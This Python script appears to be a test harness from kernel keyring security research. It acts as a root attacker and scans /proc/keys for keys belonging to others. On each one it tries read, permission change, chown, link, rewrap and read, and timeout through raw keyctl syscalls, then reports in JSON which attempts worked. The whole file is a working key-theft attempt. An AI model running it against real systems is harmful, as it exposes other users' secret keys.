# SPDX-License-Identifier: GPL-2.0-or-later
"""Root who wants the key of a store: tries everything with every key that can be seen, until standard
input ends. Prints JSON: the keys that were seen, by description, and what was done with any of them.

A key of type "encrypted" can be wrapped again under a key of the attacker's own ("update user:NAME")
and then read, by whoever has the right to write and read it."""

import ctypes
import json
import select
import sys

ADD_KEY, KEYCTL = 248, 250  # x86-64
JOIN_SESSION, UPDATE, REVOKE, CHOWN, SETPERM, DESCRIBE = 1, 2, 3, 4, 5, 6
LINK, SEARCH, READ, INSTANTIATE, SET_TIMEOUT, INVALIDATE = 8, 10, 11, 12, 15, 21
SESSION_KEYRING = -3
EVERYTHING = 0x3f3f3f3f
libc = ctypes.CDLL(None, use_errno=True)


def keyctl(operation, *arguments):
    return libc.syscall(KEYCTL, operation, *arguments)


def add(kind, name, payload, keyring=SESSION_KEYRING):
    return libc.syscall(ADD_KEY, kind, name, payload, len(payload), keyring)


def read(key):
    buffer = ctypes.create_string_buffer(4096)
    length = keyctl(READ, key, buffer, len(buffer), 0)
    return buffer.raw[:length] if length > 0 else None


def attempt(key):
    """The names of what could be done with @key."""
    done = set()
    for name, works in (
            ("read", lambda: read(key) is not None),
            ("setperm", lambda: keyctl(SETPERM, key, EVERYTHING, 0, 0) == 0),
            ("chown", lambda: keyctl(CHOWN, key, 0, 0, 0) == 0),
            ("link", lambda: keyctl(LINK, key, SESSION_KEYRING, 0, 0) == 0),
            ("update", lambda: keyctl(UPDATE, key, b"update user:known:1", 19, 0) == 0),
            ("read again", lambda: read(key) is not None),
            ("timeout", lambda: keyctl(SET_TIMEOUT, key, 600, 0, 0) == 0)):
        if works():
            done.add(name)
    return done


def visible():
    """{serial number: "type description"} of all keys but keyrings."""
    found = {}
    with open("/proc/keys", encoding="ascii", errors="replace") as keys:
        for line in keys:
            fields = line.split(None, 8)
            if len(fields) == 9 and fields[7] != "keyring":
                found[int(fields[0], 16)] = f"{fields[7]} {fields[8].split(':')[0]}"
    return found


def main():
    # "shared": in the session keyring that the victim has too; the control
    if sys.argv[1:] != ["shared"]:
        keyctl(JOIN_SESSION, None, 0, 0, 0)
    own = {add(b"user", b"known:1", b"A" * 32)}
    before = set(visible()) - own if sys.argv[1:] != ["shared"] else set()
    print("ready", flush=True)
    seen, done, rounds = {}, {}, 0
    while not select.select([0], [], [], 0)[0]:
        rounds += 1
        for key, name in visible().items():
            if key in own or key in before:
                continue
            seen[name] = seen.get(name, 0) + 1
            for what in attempt(key):
                done.setdefault(name, {}).setdefault(what, 0)
                done[name][what] += 1
    print(json.dumps({"seen": seen, "done": done, "rounds": rounds}))


if __name__ == "__main__":
    main()
